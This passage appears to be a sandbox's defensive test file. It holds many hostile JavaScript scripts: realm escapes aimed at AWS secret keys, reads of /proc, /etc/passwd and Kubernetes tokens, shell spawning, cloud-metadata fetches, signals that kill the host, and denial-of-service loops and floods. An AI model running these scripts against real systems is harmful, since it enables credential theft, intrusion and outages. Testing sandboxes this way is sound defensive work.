/** JavaScript scripts that want out. `load` is the realm's require and `proc` its process; where it has none, that is the end of them. */
import type { Corpus, Hostile } from './case.ts'

const attack = (body: string) => `function attack(record, logger) {\n${body}\n}`
const allRefused = /^\{"refused":\d+\}$/
const tooLong = /took longer than/
const hung = /took longer|did not answer/

/** Out of the realm, to whatever lies behind it. */
const escapes: readonly Hostile[] = [
  {
    name: 'constructors of functions',
    script: attack(`
const tell = (f) => { const p = f('return typeof process === "object" ? process : undefined')(); if (!p) throw new Error('none'); return p.env.AWS_SECRET_ACCESS_KEY ?? (() => { throw new Error('empty') })() }
return verdict({ plain: () => tell(Function), up: () => tell(record.constructor.constructor), log: () => tell(logger.info.constructor), error: () => { try { null.f() } catch (e) { return tell(e.constructor.constructor) } },
  arrow: () => tell((() => {}).constructor), json: () => tell(JSON.parse.constructor), gen: () => { const p = (function* () {}).constructor('return process')().next().value; return p.env.AWS_SECRET_ACCESS_KEY.length } })`),
    row: allRefused,
  },
  {
    name: 'frames above, through stack traces',
    script: attack(`
let found = 'none'
const before = Error.prepareStackTrace
Error.prepareStackTrace = (e, frames) => { for (const f of frames) { try { const t = f.getThis?.(); if (t?.process?.env?.AWS_SECRET_ACCESS_KEY) found = 'GOT' } catch {} } return '' }
try { new Error().stack; (function r() { r() })() } catch (e) { e.stack }
Error.prepareStackTrace = before
return { found }`),
    row: /^\{"found":"none"\}$/,
  },
  {
    name: 'thrown from deep in the stack of the host',
    script: attack(`
let found
const deep = (n) => { try { return deep(n + 1) } catch (e) { found ??= e; throw e } }
try { deep(0) } catch {}
return verdict({ error: () => found.constructor.constructor('return process')().env.AWS_SECRET_ACCESS_KEY.length })`),
    row: allRefused,
  },
  {
    name: 'import() of modules',
    script: attack(`
const pending = [import('node:' + 'fs'), import('data:text/javascript,export default 1'), import('file://' + T.world)]
for (const each of pending) each.catch(() => {})
return { n: 2 }`),
    row: /^\{"n":2\}$/,
    error: /./,
    start: /lies outside|Could not resolve/,
  },
  {
    name: 'functions of the driver',
    script: attack(`
__driver.go = () => '0\\n2\\n{}'
__driver.takeLog = () => '[' .repeat(100)
JSON.stringify = () => '}{'
Array.prototype.push = () => 0
return { n: 2 }`),
    row: /^/,
    error: /./,
    others: 'any',
  },
  {
    name: 'a mined Array.prototype and String.prototype',
    script: attack(`
Array.prototype.map = Array.prototype.join = function () { throw new Error('mine') }
String.prototype.slice = () => 'mine'
Object.keys = () => { throw new Error('mine') }
return { n: 2 }`),
    row: /^/,
    error: /./,
    others: 'any',
  },
  {
    name: 'globals of the outer world',
    script: attack(`
const names = ['process', 'require', 'module', 'Buffer', 'fetch', 'WebSocket', 'EventSource', 'navigator', 'setTimeout', 'queueMicrotask', 'structuredClone', 'SharedArrayBuffer']
return verdict({ env: () => { const e = Object.keys(proc.env).filter((name) => /AWS|SECRET|PATH|BYOM/.test(name)); if (e.length === 0) throw new Error('empty'); return e } })`),
    row: allRefused,
  },
  {
    name: 'promises, thenables and species',
    script: attack(`
class P extends Promise { static get [Symbol.species]() { return function (run) { run(() => {}, () => {}) } } }
const p = new P(() => {})
P.prototype.then.call(Promise.resolve(1), () => { globalThis.seen = 1 })
p.constructor = { [Symbol.species]: function (run) { run((x) => x, (x) => x) } }
return verdict({ run: () => p.then(() => {}).constructor.constructor('return process.env.AWS_SECRET_ACCESS_KEY.length')() })`),
    row: allRefused,
  },
  {
    name: 'proxies of what the host hands in',
    script: attack(`
const seen = []
const trap = new Proxy({}, { get(t, k, r) { seen.push(r); return undefined }, getPrototypeOf() { return null }, ownKeys() { return [] } })
try { logger.info(trap) } catch {}
try { logger.info({ toString: trap, toJSON: trap }) } catch {}
return { n: 2 }`),
    row: /^\{"n":2\}$/,
    error: /Proxy is not/,
  },
  {
    name: 'another context',
    script: attack(`
const vm = load('vm')
const found = vm.runInNewContext('this.constructor.constructor("return process")()')
return verdict({ world: () => found.getBuiltinModule('fs').readFileSync(T.world, 'utf8'), main: () => found.mainModule.require('fs').readFileSync(T.own, 'utf8') })`),
    row: allRefused,
  },
]

/** Reading and writing files. */
const files: readonly Hostile[] = [
  {
    name: 'the environment is empty',
    script: attack(`
const fs = load('fs')
return verdict({ env: () => proc.env.AWS_SECRET_ACCESS_KEY.length, self: () => fs.readFileSync('/proc/self/environ'), shell: () => load('os').userInfo().homedir + load('child_process').execSync('env') })`),
    row: allRefused,
  },
  {
    name: 'the parent in /proc',
    script: attack(`
const fs = load('fs')
const attempts = {}
for (const base of ['/proc/' + proc.ppid, '/proc/' + T.host, '/proc/1', '/proc/self'])
  for (const name of ['environ', 'mem', 'maps', 'cmdline', 'root/etc/passwd', 'fd/0', 'cwd/package.json']) attempts[base + name] = () => fs.readFileSync(base + '/' + name)
return verdict(attempts)`),
    row: allRefused,
  },
  {
    name: 'files that everybody may read, and others',
    script: attack(`
const fs = load('fs')
const r = (path) => () => fs.readFileSync(path, 'utf8')
return verdict({ world: r(T.world), own: r(T.own), link: r(T.link), buffer: () => fs.readFileSync(Buffer.from(T.world)), url: () => fs.readFileSync(new URL('file://' + T.world)), bytes: () => fs.readFileSync(new Uint8Array(Buffer.from(T.world))),
  up: r('../../../../..' + T.world), passwd: r('/etc/passwd'), hosts: r('/etc/hosts'), folder: () => fs.readdirSync(T.folder + '/..'), dir: () => fs.opendirSync('/root').readSync().name, copy: () => fs.copyFileSync(T.world, T.folder + '/x'),
  blob: () => fs.openAsBlob(T.world) && fs.openSync(T.world), token: r('/var/run/secrets/kubernetes.io/serviceaccount/token'), zero: r('/dev/zero'), real: () => fs.readFileSync(fs.realpathSync.native(T.link)), cp: () => fs.cpSync(T.world, T.folder + '/y'), glob: () => fs.globSync(T.folder + '/../*')[0].length })`),
    row: allRefused,
  },
  {
    name: 'modules and loaders that read files',
    script: attack(`
const m = load('module')
return verdict({ require: () => load(T.world), json: () => load(T.world + '.json'), wrap: () => m._extensions['.js']({ _compile: (c) => c }, T.world), load: () => m._load(T.world), env: () => proc.loadEnvFile(T.world), sqlite: () => new (load('sqlite').DatabaseSync)(T.world).prepare('select 1').get(),
  wasi: () => new (load('wasi').WASI)({ version: 'preview1', preopens: { '/': '/root' } }), map: () => m.findSourceMap(T.world).payload, config: () => proc.binding('fs').internalModuleReadJSON(T.world)[0] })`),
    row: allRefused,
    error: /./,
  },
  {
    name: 'bindings of the runtime',
    script: attack(`
const b = (name) => proc.binding(name)
return verdict({ fs: () => b('fs').open(T.world, 0, 0o666), read: () => b('fs').readFileUtf8(T.world, 0), spawn: () => { const r = b('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'], stdio: [{ type: 'pipe', readable: true, writable: true }] }); if (r.error) throw new Error(r.error); return r.output },
  tcp: () => { const { TCP, TCPConnectWrap } = b('tcp_wrap'); const e = new TCP(0).connect(new TCPConnectWrap(), '127.0.0.1', T.tcp); if (e) throw new Error(e); return e },
  pipe: () => { const { Pipe, PipeConnectWrap } = b('pipe_wrap'); const e = new Pipe(0).connect(new PipeConnectWrap(), T.unix); if (e) throw new Error(e); throw new Error('later') },
  udp: () => { const { UDP } = b('udp_wrap'); const e = new UDP().bind('127.0.0.1', 0, 0); if (e) throw new Error(e); return e } })`),
    row: allRefused,
  },
  {
    name: 'files opened for writing',
    script: attack(`
const fs = load('fs')
const f = T.folder + '/x'
const attempts = {}
for (const flag of ['w', 'wx', 'a', 'as', 'r+', 'w+', 'a+']) attempts[flag] = () => fs.openSync(f, flag)
return verdict({ ...attempts, write: () => fs.writeFileSync(f, 'GOT'), over: () => fs.writeFileSync(T.world, ''), bits: () => fs.openSync(T.folder, 0o20200002, 0o600), stream: () => { fs.appendFileSync(f, 'x') }, tmp: () => fs.mkdtempSync(T.folder + '/'), null: () => fs.openSync('/dev/null', 'w'), here: () => fs.writeFileSync('x', '') })`),
    row: allRefused,
  },
  {
    name: 'everything else that changes a folder',
    script: attack(`
const fs = load('fs')
const f = T.folder + '/x'
return verdict({ mkdir: () => fs.mkdirSync(f), link: () => fs.linkSync(T.world, f), sym: () => fs.symlinkSync('/etc', f), rename: () => fs.renameSync(T.world, f), rm: () => { fs.rmSync(T.world) }, unlink: () => fs.unlinkSync(T.world), rmdir: () => fs.rmdirSync(T.folder), cut: () => fs.truncateSync(T.world),
  chmod: () => fs.chmodSync(T.folder, 0), chown: () => fs.chownSync(T.world, 0, 0), times: () => fs.utimesSync(T.world, 0, 0), lchown: () => fs.lchownSync(T.link, 0, 0), lutimes: () => fs.lutimesSync(T.link, 0, 0) })`),
    row: allRefused,
  },
  {
    name: 'what the runtime writes by itself',
    script: attack(`
const bad = () => { throw new Error('nothing written') }
return verdict({ report: () => proc.report.writeReport(T.folder + '/r.json') || bad(), heap: () => load('v8').writeHeapSnapshot(T.folder + '/h'), sql: () => new (load('sqlite').DatabaseSync)(T.folder + '/db').exec('create table x (y)') ?? 'made',
  near: () => { load('v8').setHeapSnapshotNearHeapLimit(1); throw new Error('set') }, cache: () => { const r = load('module').enableCompileCache(T.folder + '/c'); if (r.status !== 1 && r.status !== 2) throw new Error(r.message); throw new Error('later') } })`),
    row: allRefused,
    error: /./,
  },
  {
    name: 'its own memory through a report',
    script: attack(`
const report = JSON.stringify(proc.report.getReport())
return { n: 2, found: /AWS_SECRET|hunter2/.test(report) ? 'GOT' : 'none' }`),
    row: /^\{"n":2,"found":"none"\}$/,
    error: /./,
  },
  {
    name: 'watching files',
    script: attack(`
const fs = load('fs')
return verdict({ watch: () => { fs.watch(T.folder).close(); throw new Error('names only') }, file: () => { fs.watchFile(T.world, () => {}); fs.unwatchFile(T.world); throw new Error('times only') } })`),
    row: allRefused,
    error: /./,
  },
]

/** Processes and signals. */
const processes: readonly Hostile[] = [
  {
    name: 'processes by every library call',
    script: attack(`
const c = load('child_process')
const ran = (r) => { if (r.error) throw r.error; if (r.status !== 0) throw new Error('status'); return r.stdout }
return verdict({ exec: () => c.execSync('id'), file: () => c.execFileSync('/bin/id'), spawn: () => ran(c.spawnSync('/bin/sh', ['-c', 'echo x > ' + T.folder + '/x'])), detached: () => ran(c.spawnSync('sleep', ['100'], { detached: true })), self: () => ran(c.spawnSync(proc.execPath, ['-e', '1'])), uid: () => ran(c.spawnSync('id', [], { uid: 0 })) })`),
    row: allRefused,
  },
  {
    name: 'processes that start later',
    script: attack(`
const c = load('child_process')
for (const start of [() => c.spawn('/bin/sh', ['-c', 'echo x > ' + T.folder + '/x']), () => c.fork('/x'), () => c.exec('id'), () => load('cluster').fork()]) {
  try { start().on('error', () => {}) } catch {}
}
return { n: 2 }`),
    row: /^\{"n":2\}$/,
    error: /./,
  },
  {
    name: 'another program in its place',
    script: attack(
      `return verdict({ sh: () => proc.execve('/bin/sh', ['sh', '-c', 'id'], {}), perl: () => proc.execve('/usr/bin/perl', ['perl', '-e', '1'], {}) })`,
    ),
    row: allRefused,
    error: /ended|SIGABRT|exit code/,
  },
  {
    name: 'itself anew, without the driver',
    script: attack(
      `proc.execve(proc.execPath, ['node', '-e', 'try{console.log(require("fs").readFileSync(' + JSON.stringify(T.world) + '))}finally{process.kill(process.ppid, 9)}'], { PATH: '/bin' })`,
    ),
    error: /ended|exit code|EPERM|permission|not defined|ERR_/i,
  },
  {
    name: 'signals to the host and to everybody',
    script: attack(`
return verdict({ parent: () => proc.kill(proc.ppid, 9), host: () => proc.kill(T.host, 'SIGTERM'), all: () => proc.kill(-1, 9), group: () => proc.kill(0, 9), zero: () => proc.kill(proc.ppid, 0), debug: () => proc._debugProcess(T.host), own: () => proc.kill(proc.pid, 9), raw: () => { if (proc._kill(proc.ppid, 9) !== 0) throw new Error('refused'); return 'sent' } })`),
    row: allRefused,
  },
  {
    name: 'identity and priorities',
    script: attack(`
const os = load('os')
return verdict({ uid: () => proc.setuid(0), euid: () => proc.seteuid(0), gid: () => proc.setgid(0), groups: () => proc.setgroups([0]), init: () => proc.initgroups('root', 0), host: () => os.setPriority(T.host, 19), parent: () => os.setPriority(proc.ppid, 19), root: () => { if (proc.chroot) return proc.chroot('/'); throw new Error('none') } })`),
    row: allRefused,
    error: /./,
  },
  {
    name: 'native code',
    script: attack(`
const fs = load('fs')
return verdict({ open: () => proc.dlopen({ exports: {} }, T.world), libc: () => proc.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'), addon: () => load('/usr/lib/x.node'), ffi: () => { const pid = new (load('node:ffi').DynamicLibrary)('libc.so.6').getFunction('kill', { result: 'i32', parameters: ['i32', 'i32'] })(proc.ppid, 9); if (pid !== 0) throw new Error('refused'); return pid }, engine: () => load('crypto').setEngine('/tmp/x.so') })`),
    row: allRefused,
    error: /./,
  },
]

/** The network. The driver never waits for events, so what has to wait runs in a thread. */
const worker = (code: string) =>
  attack(`
const { Worker } = load('worker_threads')
const shared = new Int32Array(new SharedArrayBuffer(4))
new Worker(${JSON.stringify(`const { shared, T } = require('worker_threads').workerData; const done = (got) => { Atomics.store(shared, 0, got ? 2 : 1); Atomics.notify(shared, 0) }; process.on('uncaughtException', () => done(false)); `)} + ${JSON.stringify(code)}, { eval: true, workerData: { shared, T }, env: {} })
Atomics.wait(shared, 0, 0, 550)
return { ended: shared[0] === 2 ? 'GOT' : 'refused' }`)
const network: readonly Hostile[] = [
  {
    name: 'connections from a thread: TCP',
    script: worker(
      "require('net').connect(T.tcp, '127.0.0.1').on('connect', () => done(true)).on('error', () => done(false))",
    ),
    row: /^\{"ended":"refused"\}$/,
    error: /./,
  },
  {
    name: 'connections from a thread: unix',
    script: worker(
      "require('net').connect(T.unix).on('connect', () => done(true)).on('error', () => require('net').connect('\\0' + T.abstract).on('connect', () => done(true)).on('error', () => done(false)))",
    ),
    row: /^\{"ended":"refused"\}$/,
    error: /./,
  },
  {
    name: 'connections from a thread: UDP',
    script: worker(
      "const s = require('dgram').createSocket('udp4'); s.on('error', () => done(false)); s.send('x', T.udp, '127.0.0.1', (e) => done(!e))",
    ),
    row: /^\{"ended":"refused"\}$/,
    error: /./,
  },
  {
    name: 'connections from a thread: HTTP, the metadata of the cloud',
    script: worker(
      "Promise.any(['http://169.254.169.254/latest/', 'http://169.254.170.2/v2/credentials', 'http://127.0.0.1:' + T.tcp].map((u) => fetch(u))).then(() => done(true), () => done(false))",
    ),
    row: /^\{"ended":"refused"\}$/,
    error: /./,
  },
  {
    name: 'names from a thread',
    script: worker(
      "require('dns').lookup('secret.example.com', (e) => e ? require('dns').resolve4('secret.example.com', (e) => done(!e)) : done(true))",
    ),
    row: /^\{"ended":"refused"\}$/,
    error: /./,
  },
  {
    name: 'servers and the inspector',
    script: worker(
      "require('net').createServer().on('error', () => { try { require('inspector').open(0, '127.0.0.1'); done(!!require('inspector').url()) } catch { done(false) } }).listen(0, '127.0.0.1', () => done(true))",
    ),
    row: /^\{"ended":"refused"\}$/,
    error: /./,
  },
  {
    name: 'HTTP/2, TLS and web sockets',
    script: worker(
      "let left = 3; const no = () => --left || done(false); require('http2').connect('http://127.0.0.1:' + T.tcp).on('connect', () => done(true)).on('error', no); require('tls').connect(T.tcp, '127.0.0.1').on('connect', () => done(true)).on('error', no); const w = new WebSocket('ws://127.0.0.1:' + T.tcp); w.onopen = () => done(true); w.onerror = no",
    ),
    row: /^\{"ended":"refused"\}$/,
    error: /./,
  },
  {
    name: 'connections from the script itself',
    script: attack(`
const net = load('net')
try { net.connect(T.tcp, '127.0.0.1').on('error', () => {}) } catch {}
try { fetch('http://127.0.0.1:' + T.tcp).catch(() => {}) } catch {}
try { load('dgram').createSocket('udp4').send('x', T.udp) } catch {}
return { n: 2 }`),
    row: /^\{"n":2\}$/,
    error: /./,
  },
  {
    name: 'the descriptors it has, as sockets',
    script: attack(`
const net = load('net')
const s = new net.Socket({ fd: 3, readable: true, writable: true })
s.on('error', () => {})
s.write('rubbish')
return { n: 2 }`),
    row: /^/,
    error: /./,
    others: 'any',
  },
]

/** Never coming back. */
const time: readonly Hostile[] = [
  { name: 'a loop', script: attack('for (;;);'), error: tooLong, slow: true },
  {
    name: 'a loop that catches everything',
    script: attack('for (;;) try { for (;;); } catch {} finally { for (;;); }'),
    error: hung,
    slow: true,
  },
  {
    name: 'recursion without an end',
    script: attack('const f = () => f() + 1\nreturn { x: f() }'),
    error: /RangeError/,
  },
  {
    name: 'a regular expression',
    script: attack('return { x: /^(a+)+$/.test("a".repeat(60) + "b") }'),
    error: hung,
    slow: true,
  },
  {
    name: 'a loop of microtasks',
    script: attack('const spin = () => Promise.resolve().then(spin)\nspin()\nreturn { n: 2 }'),
    row: /^\{"n":2\}$/,
    error: hung,
    again: 1600,
    slow: true,
  },
  {
    name: 'a start that never ends',
    script: `for (;;);\n${attack('')}`,
    start: /did not answer|took/,
    slow: true,
  },
  {
    name: 'a start of microtasks',
    script: `const spin = () => Promise.resolve().then(spin)\nspin()\n${attack('return { n: 2 }')}`,
    start: /did not answer/,
    row: /^\{"n":2\}$/,
    slow: true,
  },
  { name: 'a getter', script: attack('return { get x() { for (;;); } }'), error: tooLong, slow: true },
  { name: 'toJSON', script: attack('return { x: { toJSON() { for (;;); } } }'), error: tooLong, slow: true },
  {
    name: 'an iterator',
    script: attack(
      'return [{ [Symbol.iterator]() { for (;;); } }, { x: new Proxy({}, { ownKeys() { for (;;); } }) }]',
    ),
    error: tooLong,
    slow: true,
  },
  {
    name: 'a getter of the error',
    script: attack(
      'const e = new Error()\nObject.defineProperty(e, "message", { get() { for (;;); } })\nthrow e',
    ),
    error: hung,
    slow: true,
  },
  {
    name: 'toString of what is thrown',
    script: attack('throw { toString() { for (;;); } }'),
    error: hung,
    slow: true,
  },
  {
    name: 'a huge number',
    script: attack('let x = 3n\nfor (;;) x = x * x'),
    error: /took longer|did not answer|RangeError|MiB of memory|ended/,
    slow: true,
  },
  {
    name: 'sort',
    script: attack('return { x: [1, 2, 3].sort(() => { for (;;); }) }'),
    error: tooLong,
    slow: true,
  },
  {
    name: 'a wait that never ends',
    script: attack('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)'),
    error: /took longer|did not answer|not defined/,
    slow: true,
  },
  {
    name: 'a finalizer',
    script: attack(
      'const r = new FinalizationRegistry(() => { for (;;); })\nfor (let i = 0; i < 1000; i++) r.register({}, 1)\nreturn { n: 2 }',
    ),
    row: /^\{"n":2\}$/,
    again: 300,
  },
  {
    name: 'a thread that goes on after the reply',
    script: attack("new (load('worker_threads').Worker)('for (;;);', { eval: true })\nreturn { n: 2 }"),
    row: /^\{"n":2\}$/,
    error: /./,
    again: 2500,
    slow: true,
  },
  {
    name: 'many threads',
    script: attack(
      "const { Worker } = load('worker_threads')\nfor (;;) new Worker('for (;;);', { eval: true, resourceLimits: { maxOldGenerationSizeMb: 2, stackSizeMb: 0.5 } })",
    ),
    error: /./,
    slow: true,
  },
  {
    name: 'WebAssembly that never ends',
    script: attack(`
const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0, 10, 9, 1, 7, 0, 3, 64, 12, 0, 11, 11])
new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f()`),
    error: /took longer|did not answer|not defined|WebAssembly|disallowed|CompileError/,
    slow: true,
  },
  {
    name: 'a reply that drips',
    script: attack(`
const fs = load('fs')
fs.writeSync(3, forge(2, '', 1000))
const lock = new Int32Array(new SharedArrayBuffer(4))
for (;;) { fs.writeSync(3, 'x'); Atomics.wait(lock, 0, 0, 50) }`),
    error: /took longer|did not answer|not asked for|protocol|not a function/,
    slow: true,
  },
]

/** Memory. */
const memory: readonly Hostile[] = [
  {
    name: 'arrays until there are no more',
    script: attack('const kept = []\nfor (;;) kept.push(new Array(1e6).fill(1))'),
    error: /ended|MiB of memory|heap|did not answer|took longer/,
    slow: true,
  },
  {
    name: 'texts until there are no more',
    script: attack('let x = "ab"\nfor (;;) x += x'),
    error: /RangeError|Invalid string length/,
  },
  {
    name: 'buffers until there are no more',
    script: attack('const kept = []\nfor (;;) kept.push(new Uint8Array(1 << 26).fill(1))'),
    error: /RangeError|MiB of memory|ended|allocation/i,
    slow: true,
  },
  {
    name: 'shared buffers until there are no more',
    script: attack(
      'const kept = []\nfor (;;) kept.push(new Uint8Array(new SharedArrayBuffer(1 << 26)).fill(1))',
    ),
    error: /RangeError|MiB of memory|ended|allocation|not defined/i,
    slow: true,
  },
  {
    name: 'resizable buffers',
    script: attack(
      'const kept = []\nfor (;;) { const b = new ArrayBuffer(0, { maxByteLength: 1 << 30 }); b.resize(1 << 26); new Uint8Array(b).fill(1); kept.push(b) }',
    ),
    error: /RangeError|MiB of memory|ended|allocation/i,
    slow: true,
  },
  {
    name: 'memory of WebAssembly',
    script: attack(
      'const kept = []\nfor (;;) { const m = new WebAssembly.Memory({ initial: 1000 }); new Uint8Array(m.buffer).fill(1); kept.push(m) }',
    ),
    error: /RangeError|MiB of memory|ended|allocate|not defined|WebAssembly/i,
    slow: true,
  },
  {
    name: 'shared memory of WebAssembly',
    script: attack(
      'const kept = []\nfor (;;) { const m = new WebAssembly.Memory({ initial: 1000, maximum: 65536, shared: true }); new Uint8Array(m.buffer).fill(1); kept.push(m) }',
    ),
    error: /RangeError|MiB of memory|ended|allocate|not defined|WebAssembly/i,
    slow: true,
  },
  {
    name: 'a map of maps',
    script: attack('const m = new Map()\nfor (let i = 0; ; i++) m.set(i, { i, m: new Map([[i, m]]) })'),
    error: /ended|MiB of memory|heap|RangeError|took longer|did not answer/,
    slow: true,
  },
  {
    name: 'symbols and closures',
    script: attack('const kept = []\nfor (let i = 0; ; i++) { const s = Symbol(i); kept.push(() => s) }'),
    error: /ended|MiB of memory|heap|RangeError|took longer|did not answer/,
    slow: true,
  },
  {
    name: 'something that unpacks',
    script: attack(
      "const z = load('zlib')\nreturn { x: z.gunzipSync(z.gzipSync(Buffer.alloc(5e8))).length }",
    ),
    error: /./,
    row: /^\{"x":500000000\}$/,
    slow: true,
  },
  {
    name: 'code until there is no more',
    script: attack(
      'for (let i = 0; ; i++) new Function("return " + i + "+".repeat(0) + "/*" + "x".repeat(1e6) + "*/")',
    ),
    error: /./,
    slow: true,
  },
]

/** Too much, or not what it should be, on the way out. */
const output: readonly Hostile[] = [
  {
    name: 'a huge result',
    script: attack('return { x: "x".repeat(40 << 20) }'),
    error: /more than 16 MiB|MiB of memory|took longer|ended/,
    slow: true,
  },
  {
    name: 'very many keys',
    script: attack(
      'return Object.fromEntries(Array.from({ length: 1e6 }, (_, i) => ["key" + i + "x".repeat(20), i]))',
    ),
    error: /more than 16 MiB|MiB of memory|took longer|did not answer|ended/,
    slow: true,
  },
  {
    name: 'very many rows',
    script: attack('return Array(3e6).fill({})'),
    row: /^\[\{\}/,
    error: /took longer|MiB|ended|did not/,
    slow: true,
  },
  {
    name: 'a flood on standard output',
    script: attack(
      "const fs = load('fs')\nconst b = Buffer.alloc(1e5, '\\u001b[2J')\nfor (;;) try { fs.writeSync(1, b) } catch (e) { if (e.code !== 'EAGAIN') throw e }",
    ),
    error: /took longer|did not answer|not a function/,
    slow: true,
  },
  {
    name: 'a flood on the error output',
    script: attack("for (;;) proc._rawDebug('x'.repeat(10000))"),
    error: /took longer|did not answer|undefined|not defined/,
    slow: true,
  },
  {
    name: 'a flood of logged lines',
    script: attack('for (let i = 0; i < 2e5; i++) console.log("x".repeat(100))\nreturn { n: 2 }'),
    row: /^\{"n":2\}$/,
    log: /left out/,
    slow: true,
  },
  {
    name: 'a huge logged line',
    script: attack(
      'logger.info("x".repeat(1 << 24))\nlogger.info({ x: Array(1e5).fill("y") })\nreturn { n: 2 }',
    ),
    row: /^\{"n":2\}$/,
  },
  {
    name: 'control characters in lines and errors',
    script: attack('console.log("\\x1b[31mred\\0")\nthrow new Error("a\\nb\\r\\x1b[2J\\u2028c")'),
    error: /a b.*c/,
  },
  {
    name: 'an error with a huge name and stack',
    script: attack(
      'const e = new Error("m".repeat(5e7))\ne.name = "N".repeat(5e6)\ne.stack = "    at ".repeat(1e6)\nthrow e',
    ),
    error: /./,
    slow: true,
  },
  {
    name: 'a stack that is hard to read',
    script: attack(
      'const e = new Error("x")\ne.stack = ("    at " + "a (".repeat(150) + ":1".repeat(200) + "\\n").repeat(10)\nthrow e',
    ),
    error: /x/,
  },
  {
    name: 'a stack that names other places',
    script: attack(
      'const e = new Error("x")\ne.stack = "Error: x\\n    at f (" + T.world + ":1:1)\\n    at g (/etc/passwd:1:1)\\n    at h (" + "9".repeat(20) + ":99999999:99999999)"\nthrow e',
    ),
    error: /x/,
  },
  { name: 'what is thrown is no error', script: attack('throw undefined'), error: /./ },
  {
    name: 'a revoked proxy is thrown',
    script: attack('const { proxy, revoke } = Proxy.revocable({}, {})\nrevoke()\nthrow proxy'),
    error: /./,
  },
  {
    name: 'forged rubbish',
    script: attack("load('fs').writeSync(3, 'GET / HTTP/1.1\\r\\n\\r\\n')\nreturn { n: 2 }"),
    error: /not asked for|more than 16 MiB|protocol|not a function/,
  },
  {
    name: 'a forged length',
    script: attack("load('fs').writeSync(3, forge(2, '', 0xffffffff))\nfor (;;);"),
    error: /more than 16 MiB|not a function/,
  },
  {
    name: 'a forged reply of zeros',
    script: attack("load('fs').writeSync(3, forge(2, Buffer.alloc(100)))\nfor (;;);"),
    error: /protocol|not a function/,
  },
  {
    name: 'a forged error that is not JSON',
    script: attack(
      "for (const count of [4, 1]) load('fs').writeSync(3, forge(2, replies(count, 2, '{]')))\nfor (;;);",
    ),
    error: /protocol|not a function/,
  },
  {
    name: 'a forged log of millions of lines',
    script: attack(`
const fs = load('fs')
for (const count of [4, 1]) { const bytes = forge(2, replies(count, 3, '', '{"lines":[' + '[],'.repeat(5e6) + '0]}')); for (let at = 0; at < bytes.length; ) try { at += fs.writeSync(3, bytes, at) } catch (e) { if (e.code !== 'EAGAIN') throw e } }
for (;;);`),
    error: /protocol|not a function|did not answer|took longer/,
    slow: true,
  },
  {
    name: 'a closed channel',
    script: attack("load('fs').closeSync(3)\nreturn { n: 2 }"),
    error: /ended|did not answer|not a function/,
  },
  {
    name: 'frames that it swallows',
    script: attack("try { load('fs').readSync(0, Buffer.alloc(10)) } catch (e) { throw e }\nreturn { n: 2 }"),
    row: /^\{"n":2\}$/,
    error: /./,
  },
]

/** Ending, in every form. */
const exits: readonly Hostile[] = [
  { name: 'process.exit', script: attack('proc.exit(0)'), error: /exit code 0|undefined|not defined/ },
  {
    name: 'process.reallyExit',
    script: attack('proc.reallyExit(7)'),
    error: /exit code 7|undefined|not defined/,
  },
  { name: 'process.abort', script: attack('proc.abort()'), error: /ended|undefined/ },
  {
    name: 'the end at the start',
    script: `proc?.exit(3)\n${attack('throw new Error("still here")')}`,
    start: /exit code 3/,
    error: /still here/,
  },
  {
    name: 'an exit in a getter',
    script: attack('return { get x() { proc.exit(1) } }'),
    error: /exit code 1|undefined/,
  },
  {
    name: 'an error that nobody catches',
    script: attack(
      "Promise.reject(new Error('x'))\nproc?.nextTick(() => { throw new Error('later') })\nreturn { n: 2 }",
    ),
    row: /^\{"n":2\}$/,
    again: 100,
  },
  {
    name: 'exit hooks',
    script: attack("proc.on('exit', () => { for (;;); })\nproc.exit(0)"),
    error: /did not answer|took longer|undefined|exit code/,
    slow: true,
  },
  {
    name: 'process.crash of the engine',
    script: attack(
      "load('v8').setFlagsFromString('--stack-size=65000')\nconst f = (n) => f(n + 1) + 1\nf(0)",
    ),
    error: /ended|RangeError|not a function|denied/i,
  },
]

/** Results that are no data. */
const results: readonly Hostile[] = [
  {
    name: 'numbers that are none',
    script: attack('return { nan: NaN, inf: Infinity, low: -Infinity, big: 10n ** 30n }'),
    row: /^\{"nan":null,"inf":"1e999","low":"-1e999","big":10{30}\}$/,
  },
  {
    name: 'lone surrogates',
    script: attack('return { x: "\\ud800", "\\udfff": 1 }'),
    row: /^\{"x":"\\ud800","\\udfff":1\}$/,
  },
  {
    name: 'a deep result',
    script: attack('let x = []\nfor (let i = 0; i < 1e5; i++) x = [x]\nreturn { x }'),
    error: /RangeError|nested/,
    row: /^\{"x":\[\[\[/,
  },
  { name: 'a result in itself', script: attack('const x = {}\nx.x = x\nreturn x'), error: /circular/i },
  { name: 'a promise', script: attack('return Promise.resolve({ n: 2 })'), error: /async|promise/ },
  {
    name: 'an async function',
    script: 'async function attack() { return { n: 2 } }',
    error: /async|promise/,
  },
  { name: 'a thenable', script: attack('return { then(f) { f({ n: 2 }) } }'), error: /promise/ },
  {
    name: 'prototypes as keys',
    script: attack(
      'return JSON.parse(\'{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"toString":1}\')',
    ),
    row: /"__proto__"/,
  },
  {
    name: 'a polluted prototype',
    script: attack(
      'Object.prototype.polluted = 1\ntry { return { n: 2 } } finally { delete Object.prototype.polluted }',
    ),
    row: /^\{"n":2\}$/,
  },
  {
    name: 'a prototype that stays polluted',
    script: attack('Object.prototype.then = () => {}\nreturn { n: 2 }'),
    error: /promise/,
    others: 'any',
  },
  { name: 'functions and symbols', script: attack('return { f() {}, s: Symbol("x") }'), error: /function/ },
  {
    name: 'a getter that throws',
    script: attack('return { get x() { throw new Error("no") } }'),
    error: /no/,
  },
  {
    name: 'a proxy with endless keys',
    script: attack(
      'return new Proxy({}, { ownKeys: () => Array.from({ length: 1e6 }, (_, i) => "k" + i), getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }), get: (_, k) => k === "then" ? undefined : 1 })',
    ),
    error: /./,
    row: /^\{"k0/,
    slow: true,
  },
  {
    name: 'a class that lies about itself',
    script: attack('return new Proxy([], { get: (list, key) => (key === "length" ? 1e9 : list[key]) })'),
    error: /./,
    row: /./,
    slow: true,
  },
  {
    name: 'toJSON that gives something else',
    script: attack('return { x: { toJSON: () => undefined }, y: { toJSON: () => () => 1 } }'),
